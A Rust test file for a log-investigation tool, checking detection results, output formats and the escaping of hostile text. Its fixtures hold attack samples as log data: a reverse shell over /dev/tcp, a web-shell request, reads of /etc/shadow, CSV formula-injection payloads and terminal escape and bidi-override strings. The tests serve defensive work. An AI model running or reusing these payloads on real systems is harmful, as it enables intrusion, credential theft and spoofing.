//! What a run writes and says: counts, options, exit codes, and nothing that hostile text could steer.

use crate::detect::FAILED_LOGIN;
use crate::{Desk, Results, brute_force, number, recording, run, run_with, schemas, text};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use unicode_width::UnicodeWidthStr;

/// One log of each kind, some of it broken.
fn mixed() -> Desk {
    let windows = |time: &str| {
        format!(
            r#"{{"@timestamp":"{time}","Channel":"Security","EventID":1102,"Hostname":"ws-01.example.org","SubjectUserName":"anna"}}"#
        )
    };
    let shell = r#"203.0.113.7 - - [02/Mar/2026:09:00:00 +0000] "GET /uploads/x.php?cmd=id HTTP/1.1" 200 12 "-" "curl/8.5.0""#;
    let audit = "type=EXECVE msg=audit(1772422510.774:4102): argc=2 a0=\"cat\" a1=\"/etc/shadow\"\n\
                 type=SYSCALL msg=audit(1772422510.774:4102): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1001 uid=0 exe=\"/usr/bin/cat\" ses=12 key=\"exec\"\n";
    let desk = Desk::with(&[
        ("web-01/auth.log", &brute_force("web-01", "203.0.113.45", 0)),
        ("web-01/audit.log", audit),
        ("web-01/access.log", &format!("{shell}\n")),
        (
            "ws-01/security.json",
            &format!("{}\n{{broken\n{}\n", windows("2026-03-02T09:00:00Z"), windows("2026-03-03T09:00:00Z")),
        ),
        ("other.txt", "nothing that a parser claims\n\n2026-03-02 09:00:00 nor this\n"),
        (
            "no-year.log",
            "Mar  2 09:00:01 web-01 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n",
        ),
    ]);
    desk.log("latin.log", b"2026-03-02T09:00:00Z web-01 app: caf\xe9\n");
    desk
}

#[test]
fn results_of_every_kind_of_log_have_the_promised_shapes() {
    let desk = mixed();
    desk.investigate(&[]).expect(0);
    schemas::check_results(&desk.path("out"));
    let results = desk.results();
    assert!(results.incidents.len() > 1 && results.summary["rejected"] == 1);
    assert!(number(&results.summary, "as_text") >= 2 && number(&results.summary, "inferred_times") >= 1);
    let kinds: BTreeSet<&str> = results.problems().into_iter().map(|(code, _)| code).collect();
    assert!(kinds.iter().eq(&["detect::not-json", "detect::not-utf8"]), "{kinds:?}");
}

#[test]
fn nothing_found_has_the_promised_shapes_too() {
    let desk = Desk::with(&[("quiet.log", "all is well\n")]);
    let ran = desk.investigate(&[]).expect(0);
    schemas::check_results(&desk.path("out"));
    assert!(desk.results().incidents.is_empty());
    assert!(ran.stdout.contains("No rule fired"), "{}", ran.stdout);
}

#[test]
fn the_same_evidence_gives_the_same_results_whatever_the_threads() {
    let read = |threads: &str| {
        let desk = mixed();
        desk.investigate(&["--threads", threads]).expect(0);
        let at = desk.path("logs").display().to_string();
        let file =
            |name: &str| std::fs::read_to_string(desk.path("out").join(name)).unwrap().replace(&at, "");
        let names = [
            "incidents.json",
            "alerts.ndjson",
            "matches.ndjson",
            "timeline.csv",
            "summary.json",
            "report.html",
            "report.md",
            "navigator.json",
            "bundle.stix.json",
        ];
        names.map(file)
    };
    assert_eq!(read("1"), read("4"));
}

#[test]
fn a_folder_that_holds_results_is_refused() {
    let desk = mixed();
    desk.investigate(&[]).expect(0);
    let before = std::fs::read(desk.path("out/matches.ndjson")).unwrap();
    let ran = desk.investigate(&[]).expect(2);
    assert!(
        ran.stderr.contains("error[cofferdam::results-exist]") && ran.stderr.contains("--add"),
        "{}",
        ran.stderr
    );
    assert_eq!(ran.stdout, "");
    assert_eq!(std::fs::read(desk.path("out/matches.ndjson")).unwrap(), before);
    // One file of them is enough, and files of others do not matter.
    std::fs::remove_dir_all(desk.path("out/data")).unwrap();
    for entry in std::fs::read_dir(desk.path("out")).unwrap() {
        let path = entry.unwrap().path();
        if !path.ends_with("summary.json") {
            std::fs::remove_file(path).unwrap();
        }
    }
    desk.investigate(&[]).expect(2);
    std::fs::rename(desk.path("out/summary.json"), desk.path("out/notes.txt")).unwrap();
    desk.investigate(&[]).expect(0);
}

#[test]
fn adding_the_same_evidence_again_changes_nothing() {
    let desk = mixed();
    desk.investigate(&[]).expect(0);
    let before = desk.results();
    let files = before.summary["files"].as_array().unwrap().len();
    let ran = desk.investigate(&["--add"]).expect(0);
    let known = ran.notes().into_iter().filter(|note| note.starts_with("cofferdam::known-file")).count();
    assert_eq!(known, files, "{}", ran.stderr);
    let after = desk.results();
    assert_eq!(after.matches, before.matches);
    assert_eq!(after.alerts, before.alerts);
    assert_eq!(after.incidents, before.incidents);
    assert_eq!(after.timeline, before.timeline);
    assert_eq!(after.summary["problems"], before.summary["problems"], "problems are told once");
    assert_eq!(after.summary["sources"], before.summary["sources"], "sources are listed once");
    assert_eq!(after.summary, before.summary);
    schemas::check_results(&desk.path("out"));
}

#[test]
fn adding_new_evidence_keeps_the_incidents_that_people_know() {
    let desk = Desk::with(&[("web.log", &brute_force("web-01", "203.0.113.45", 0))]);
    desk.investigate(&[]).expect(0);
    let before = desk.results();
    assert_eq!(before.incidents.len(), 1);
    // A later file tells more of it, another of something else, which is worse.
    let more = "2026-03-02T09:05:00Z web-01 sudo:   root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow\n\
                2026-03-02T09:06:00Z web-01 useradd[77]: new user: name=support, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0\n";
    desk.log("later.log", more.as_bytes());
    desk.log(
        "other.log",
        (brute_force("db-01", "192.0.2.99", 10).replace("2026-03-02", "2026-02-01")).as_bytes(),
    );
    let ran = desk.investigate(&["--add"]).expect(0);
    assert!(ran.stderr.contains("web.log") && !ran.stderr.contains("later.log"), "{}", ran.stderr);
    schemas::check_results(&desk.path("out"));
    let after = desk.results();
    let ids = |results: &Results| -> BTreeMap<String, Option<String>> {
        let id =
            |alert: &Value| (text(alert, "id").to_owned(), alert["incident"].as_str().map(str::to_owned));
        results.alerts.iter().map(id).collect()
    };
    let (old, new) = (ids(&before), ids(&after));
    for (alert, incident) in &old {
        assert_eq!(&new[alert], incident, "{alert} stays in its incident");
    }
    assert!(new.len() > old.len());
    assert_eq!(after.incidents.len(), 2, "one grew, one is new");
    let known = text(&before.incidents[0], "id");
    let grown = after.incidents.iter().find(|incident| incident["id"] == known).expect("its id stays");
    let count = |incident: &Value| incident["alerts"].as_array().unwrap().len();
    assert!(count(grown) > count(&before.incidents[0]), "what came later is in it");
    assert_eq!(after.matches[..before.matches.len()], before.matches[..], "matches are added at the end");
    assert_eq!(after.summary["files"].as_array().unwrap().len(), 3);
    assert_eq!(number(&after.summary, "read"), 7 + 2 + 7);
}

#[test]
fn damaged_results_are_not_added_to() {
    let desk = mixed();
    desk.investigate(&[]).expect(0);
    std::fs::write(desk.path("out/alerts.ndjson"), "{\"id\": 1}\n").unwrap();
    let ran = desk.investigate(&["--add"]).expect(3);
    assert!(ran.stderr.contains("error[cofferdam::results-damaged]"), "{}", ran.stderr);
    assert_eq!(std::fs::read_to_string(desk.path("out/alerts.ndjson")).unwrap(), "{\"id\": 1}\n");
}

#[test]
fn json_is_one_document_that_says_what_the_files_say() {
    let desk = mixed();
    let says = |further: &[&str]| -> (Value, Results) {
        let ran = desk.investigate(&[&["--format", "json"], further].concat()).expect(0);
        (serde_json::from_str(&ran.stdout).unwrap(), desk.results())
    };
    let (document, results) = says(&[]);
    assert_eq!(document["summary"], results.summary);
    assert_eq!(document["incidents"], Value::from(results.incidents));
    assert_eq!(document["alerts"], Value::from(results.alerts));
    desk.log("later.log", brute_force("db-01", "192.0.2.99", 10).as_bytes());
    let (document, results) = says(&["--add"]);
    assert_eq!(document["alerts"], Value::from(results.alerts), "after adding");
    assert_eq!(document["summary"]["matches"], results.summary["matches"], "after adding");
    assert_eq!(document["summary"], results.summary, "after adding");
}

#[test]
fn standard_input_is_evidence_like_any_other() {
    let desk = Desk::new();
    let out = desk.path("out");
    let log = brute_force("web-01", "203.0.113.45", 0);
    run_with(&["investigate".as_ref(), "-".as_ref(), "--out".as_ref(), out.as_os_str()], log.as_bytes())
        .expect(0);
    let results = desk.results();
    assert_eq!(results.incidents.len(), 1);
    assert!(results.matches.iter().all(|found| found["file"] == "-"));
    let files = results.summary["files"].as_array().unwrap();
    assert!(files.len() == 1 && files[0]["sha256"].is_string(), "{files:?}");
}

#[test]
fn packed_logs_are_read_where_they_lie() {
    let desk = Desk::new();
    let log = brute_force("web-01", "203.0.113.45", 0);
    let mut zip = zip::ZipWriter::new(std::fs::File::create(desk.path("logs/case.zip")).unwrap());
    zip.start_file("web/auth.log", zip::write::SimpleFileOptions::default()).unwrap();
    zip.write_all(log.as_bytes()).unwrap();
    zip.finish().unwrap();
    desk.investigate(&[]).expect(0);
    schemas::check_results(&desk.path("out"));
    let results = desk.results();
    assert_eq!(results.incidents.len(), 1);
    let file = format!("{}!web/auth.log", desk.path("logs/case.zip").display());
    assert!(results.matches.iter().all(|found| found["file"] == file), "{:?}", results.matches);
    // A member is known by its archive.
    let ran = desk.investigate(&["--add"]).expect(0);
    assert!(ran.stderr.contains("cofferdam::known-file"), "{}", ran.stderr);
    assert_eq!(desk.results().matches, results.matches);
}

#[test]
fn an_alert_keeps_fifty_records_and_counts_all() {
    let line = |second: u32| {
        format!(
            "2026-03-02T09:00:{second:02}Z web-01 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n"
        )
    };
    let repeated = "2026-03-02T09:01:00Z web-01 sshd[1]: message repeated 5 times: [ Failed password for root from 203.0.113.9 port 1 ssh2]\n";
    let log: String = (0..60).map(line).chain([repeated.to_owned()]).collect();
    let desk = Desk::with(&[("auth.log", &log)]);
    let rule = desk.path("rule.yml");
    std::fs::write(&rule, FAILED_LOGIN).unwrap();
    desk.investigate(&["--no-builtin-rules", "--rules", rule.to_str().unwrap()]).expect(0);
    let results = desk.results();
    assert_eq!(results.alerts.len(), 1);
    let alert = &results.alerts[0];
    let counts = ["count", "evidence_total", "occurrences"].map(|name| number(alert, name));
    assert_eq!((counts, alert["evidence"].as_array().unwrap().len()), ([61, 61, 65], 50));
    assert_eq!(
        (text(alert, "first_seen"), text(alert, "last_seen")),
        ("2026-03-02T09:00:00Z", "2026-03-02T09:01:00Z")
    );
}

#[test]
fn quiet_says_nothing_aside() {
    let desk = mixed();
    let broken = desk.path("broken.yml");
    std::fs::write(&broken, "title: [").unwrap();
    let further = ["--quiet", "--rules", broken.to_str().unwrap()];
    let ran = desk.investigate(&further).expect(0);
    assert_eq!(ran.stderr, "");
    assert!(ran.stdout.contains("incident"), "results are told all the same");
    let ran = desk.investigate(&[&further[..], &["--add"]].concat()).expect(0);
    assert_eq!(ran.stderr, "", "when adding");
}

#[test]
fn fail_on_decides_the_exit_code_by_the_worst_incident() {
    let desk = Desk::with(&[("auth.log", &brute_force("web-01", "203.0.113.45", 0))]);
    let logs = desk.path("logs").display().to_string();
    let severity = {
        let ran = run(&["investigate", &logs, "--format", "json"]).expect(0);
        let document: Value = serde_json::from_str(&ran.stdout).unwrap();
        text(&document["incidents"][0], "severity").to_owned()
    };
    let levels = ["informational", "low", "medium", "high", "critical"];
    let worst = levels.iter().position(|level| *level == severity).unwrap();
    for (at, level) in levels.iter().enumerate() {
        run(&["investigate", &logs, "--fail-on", level]).expect(i32::from(at <= worst));
    }
    let quiet = Desk::with(&[("quiet.log", "all is well\n")]);
    quiet.investigate(&["--fail-on", "informational"]).expect(0);
}

#[test]
fn min_level_leaves_out_what_is_below() {
    let desk = mixed();
    desk.investigate(&["--min-level", "high"]).expect(0);
    let results = desk.results();
    let levels: BTreeSet<&str> = results.matches.iter().map(|found| text(found, "level")).collect();
    assert!(levels.iter().all(|level| matches!(*level, "high" | "critical")), "{levels:?}");
    assert!(results.titles().contains("SSH login after brute force"), "what it counts goes on counting");
}

#[test]
fn from_and_to_bound_the_time_and_are_counted() {
    let log = brute_force("web-01", "203.0.113.45", 0)
        + &brute_force("web-01", "203.0.113.45", 30)
        + "no time at all\n";
    let cases: [(&[&str], u64); 5] = [
        (&["--from", "2026-03-02T09:15:00Z"], 7),
        (&["--to", "2026-03-02T09:15:00Z"], 7),
        (&["--from", "2026-03-02T09:00:01Z", "--to", "2026-03-02T09:30:00Z"], 7),
        (&["--from", "2026-03-03"], 14),
        (&["--from", "2026-03-02", "--to", "2026-03-03"], 0),
    ];
    for (further, outside) in cases {
        let desk = Desk::with(&[("auth.log", &log)]);
        desk.investigate(further).expect(0);
        let results = desk.results();
        assert_eq!(number(&results.summary, "outside"), outside, "{further:?}");
        assert_eq!((number(&results.summary, "read"), number(&results.summary, "parsed")), (15, 15));
        let bound = |name: &str| {
            let at = further.iter().position(|arg| *arg == name).map(|at| further[at + 1]);
            at.filter(|text| text.contains('T')).map(|text| text.parse::<jiff::Timestamp>().unwrap())
        };
        for found in &results.matches {
            let time: jiff::Timestamp = text(found, "time").parse().unwrap();
            assert!(bound("--from").is_none_or(|from| time >= from), "{further:?}: {time}");
            assert!(bound("--to").is_none_or(|to| time <= to), "{further:?}: {time}");
        }
    }
}

#[test]
fn a_zone_is_given_to_times_that_name_none() {
    let log = "Mar  2 09:00:01 web-01 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n\
               2026-03-02T09:00:01Z web-01 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2\n";
    let cases =
        [("UTC", "09:00:01"), ("Europe/Berlin", "08:00:01"), ("+02:00", "07:00:01"), ("-05:30", "14:30:01")];
    for (zone, clock) in cases {
        let desk = Desk::with(&[("auth.log", log), ("rule.yml", FAILED_LOGIN)]);
        let rule = desk.path("logs/rule.yml").display().to_string();
        let zone_given = format!("--timezone={zone}");
        desk.investigate(&[&zone_given, "--no-builtin-rules", "--rules", &rule]).expect(0);
        let results = desk.results();
        let of =
            |record: u64| results.timeline.iter().find(|row| row["record"] == record.to_string()).unwrap();
        let without = of(1);
        assert!(without["time"].contains(&format!("-03-02T{clock}")), "{zone}: {}", without["time"]);
        assert_eq!(without["time_inferred"], "yes");
        assert_eq!((of(2)["time"].as_str(), of(2)["time_inferred"].as_str()), ("2026-03-02T09:00:01Z", "no"));
        assert_eq!(number(&results.summary, "inferred_times"), 1, "{zone}");
    }
}

#[test]
fn what_cannot_be_meant_is_refused_before_anything_is_read() {
    let desk = Desk::with(&[("auth.log", &brute_force("web-01", "203.0.113.45", 0))]);
    let logs = desk.path("logs").display().to_string();
    let cases: [&[&str]; 9] = [
        &["--timezone", "Mars/Olympus"],
        &["--from", "yesterday"],
        &["--to", "2026-02-30"],
        &["--min-level", "severe"],
        &["--fail-on", ""],
        &["--threads", "0"],
        &["--format", "xml"],
        &["--add"],
        &["--no-builtin-rules"],
    ];
    for further in cases {
        let ran = run(&[&["investigate", &logs], further].concat());
        assert_eq!(ran.code, 2, "{further:?}: {}", ran.stderr);
        assert_eq!(ran.stdout, "", "{further:?}");
        assert!(!ran.stderr.is_empty());
    }
}

/// What spreadsheets take for the start of a formula, as OWASP lists it.
const FORMULAS: [&str; 7] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "=HYPERLINK(\"http://192.0.2.1\",\"a\")",
];

#[test]
fn no_cell_of_the_timeline_starts_a_formula() {
    let desk = Desk::new();
    let mut rules = String::new();
    let mut log = String::new();
    for (number, formula) in FORMULAS.iter().enumerate() {
        let quoted = serde_json::to_string(formula).unwrap();
        rules += &format!(
            "---\ntitle: {quoted}\nid: {quoted}\nlogsource: {{product: windows}}\ndetection: {{seen: {{EventID: {number}}}, condition: seen}}\nlevel: high\n"
        );
        log += &format!(
            "{{\"@timestamp\":\"2026-03-02T09:00:0{number}Z\",\"Channel\":\"Security\",\"EventID\":{number},\"Computer\":{quoted},\"SubjectUserName\":{quoted},\"TargetUserName\":{quoted},\"CommandLine\":{quoted},\"IpAddress\":{quoted}}}\n"
        );
        log += &format!(
            "2026-03-02T09:00:0{number}Z {0} sshd[1]: Failed password for {0} from 203.0.113.9 port 1 ssh2\n",
            formula.replace(['\t', '\r'], "")
        );
    }
    desk.log("=cmd.log", log.as_bytes());
    let path = desk.path("rules.yml");
    std::fs::write(&path, rules.trim_start_matches("---\n").to_owned() + "---" + FAILED_LOGIN).unwrap();
    for further in [&[][..], &["--add"]] {
        // Results that are added to are read and written again.
        if !further.is_empty() {
            desk.log("more.log", brute_force("web-01", "203.0.113.45", 0).as_bytes());
        }
        desk.investigate(&[&["--rules", path.to_str().unwrap()], further].concat()).expect(0);
        let mut rows = csv::Reader::from_path(desk.path("out/timeline.csv")).unwrap();
        let mut made_safe = 0;
        for row in rows.records() {
            for cell in &row.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                    "{cell:?} starts a formula"
                );
                assert!(!cell.contains(char::is_control), "{cell:?} steers");
                assert!(!cell.starts_with("''"), "{cell:?} was made safe twice");
                made_safe += usize::from(cell.starts_with('\''));
            }
        }
        // A tab and a line break are shown by number, and so begin none.
        let formulas = FORMULAS.iter().filter(|text| !text.starts_with(char::is_control)).count();
        assert!(made_safe >= 3 * formulas, "{made_safe} cells were made safe");
    }
}

/// What steers a terminal or turns the reading direction.
fn is_steering(ch: char) -> bool {
    (ch.is_control() && ch != '\n')
        || matches!(ch, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}' | '\u{FEFF}')
}

#[track_caller]
fn check_plain(text: &str) {
    for line in text.lines() {
        assert!(!line.contains(is_steering), "steers the terminal: {line:?}");
        assert!(line.width() <= 80, "{} columns: {line}", line.width());
    }
}

/// Every sequence that begins with ESC, told apart from colours.
#[track_caller]
fn check_coloured(text: &str) {
    let mut plain = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        plain += before;
        let end = after.find(|ch: char| !ch.is_ascii_digit() && ch != ';').expect("an end of the sequence");
        assert!(after[end..].starts_with('m'), "no colour: {:?}", &after[..end + 1]);
        rest = &after[end + 1..];
    }
    check_plain(&(plain + rest));
}

#[test]
fn the_story_fits_eighty_columns_and_has_no_colours_in_a_pipe() {
    let (ran, out) = recording::investigated();
    let out = out.display().to_string();
    // The path of the results is the caller's own, and may be as long as they like.
    check_plain(&ran.stdout.replace(&out, "out"));
    for heading in ["When", "Where", "Who", "How far", "Strongest evidence", "Do first", "INC-0001"] {
        assert!(ran.stdout.contains(heading), "{heading} in\n{}", ran.stdout);
    }
}

/// Text that an attacker would like to see on our terminal.
fn hostile() -> Vec<String> {
    vec![
        "\u{1b}]0;owned\u{7}".to_owned(),
        "\u{1b}[2J\u{1b}[H".to_owned(),
        "\u{9b}31mcsi".to_owned(),
        "a\u{8}\u{8}b\rc".to_owned(),
        "ab\u{0}cd".to_owned(),
        "\u{202e}txt.exe\u{2066}x\u{200f}\u{200b}".to_owned(),
        "日本語".repeat(60),
        "x".repeat(3_000),
        "wide words ".repeat(80),
        "e\u{301}".repeat(400),
    ]
}

fn hostile_logs() -> Desk {
    let desk = Desk::new();
    let (mut auth, mut access, mut json) = (String::new(), String::new(), String::new());
    for (number, text) in hostile().iter().enumerate() {
        let word = text.replace([' ', '\r', '\n'], "_");
        let quoted = serde_json::to_string(text).unwrap();
        for second in 0..6 {
            auth += &format!(
                "2026-03-02T{number:02}:00:0{second}Z {word} sshd[1]: Failed password for {text} from 203.0.113.{number} port 1 ssh2\n"
            );
        }
        auth += &format!(
            "2026-03-02T{number:02}:00:08Z {word} sshd[1]: Accepted password for {text} from 203.0.113.{number} port 1 ssh2\n"
        );
        auth += &format!(
            "2026-03-02T{number:02}:01:00Z {word} sudo: {text} : TTY=pts/0 ; PWD=/{text} ; USER=root ; COMMAND=/bin/bash -c {text} >& /dev/tcp/203.0.113.9/4444 0>&1\n"
        );
        access += &format!(
            "203.0.113.{number} - {word} [02/Mar/2026:{number:02}:02:00 +0000] \"GET /uploads/{word}.php?cmd=id;{word} HTTP/1.1\" 200 1 \"{text}\" \"{text}\"\n"
        );
        json += &format!(
            "{{\"@timestamp\":\"2026-03-02T{number:02}:03:00Z\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":10,\"Computer\":{quoted},\"SourceImage\":{quoted},\"TargetImage\":\"C:\\\\Windows\\\\System32\\\\lsass.exe\",\"GrantedAccess\":\"0x1410\",\"SourceUser\":{quoted}}}\n"
        );
        json += &format!(
            "{{\"@timestamp\":\"2026-03-02T{number:02}:04:00Z\",\"Channel\":\"Security\",\"EventID\":1102,\"Computer\":{quoted},\"SubjectUserName\":{quoted},\"SubjectDomainName\":{quoted}}}\n"
        );
    }
    json += "{\"broken\": \u{1b}[31m}\n";
    desk.log("auth.log", auth.as_bytes());
    desk.log("access.log", access.as_bytes());
    desk.log("sysmon.json", json.as_bytes());
    desk.log("\u{1b}[31mred\u{202e}.log", b"{broken \x1b[31m\xff\n");
    desk
}

#[test]
fn hostile_text_does_not_reach_the_terminal() {
    let desk = hostile_logs();
    let rule = desk.path("\u{1b}[31mrule.yml");
    std::fs::write(&rule, "title: \"\\e]0;owned\\a\"\nlogsource: {product: linux}\ndetection: {a: {b: c}, condition: \"\\e[31m\"}\n").unwrap();
    let ran = desk.investigate(&["--rules", rule.to_str().unwrap()]).expect(0);
    let results = desk.results();
    assert!(results.incidents.len() > 5, "{} incidents", results.incidents.len());
    check_plain(&ran.stdout.replace(desk.path("out").to_str().unwrap(), "out"));
    assert!(!ran.stderr.contains(is_steering), "{:?}", ran.stderr);
    schemas::check_results(&desk.path("out"));
}

#[test]
fn hostile_text_does_not_hide_among_colours() {
    let desk = hostile_logs();
    let logs = desk.path("logs");
    let output = crate::program(&["investigate".as_ref(), logs.as_os_str()])
        .env("CLICOLOR_FORCE", "1")
        .output()
        .unwrap();
    let stdout = String::from_utf8(output.stdout).unwrap();
    assert!(stdout.contains("\u{1b}["), "colours are forced");
    check_coloured(&stdout);
}

#[test]
fn detect_escapes_hostile_text() {
    let desk = hostile_logs();
    for name in ["auth.log", "access.log", "sysmon.json"] {
        let log = desk.path("logs").join(name);
        let ran = run(&["detect".as_ref(), log.as_os_str()]).expect(0);
        let raw = |ch: char| ch.is_control() && ch != '\n';
        assert!(!ran.stdout.contains(raw) && !ran.stderr.contains(is_steering), "{name}");
    }
}
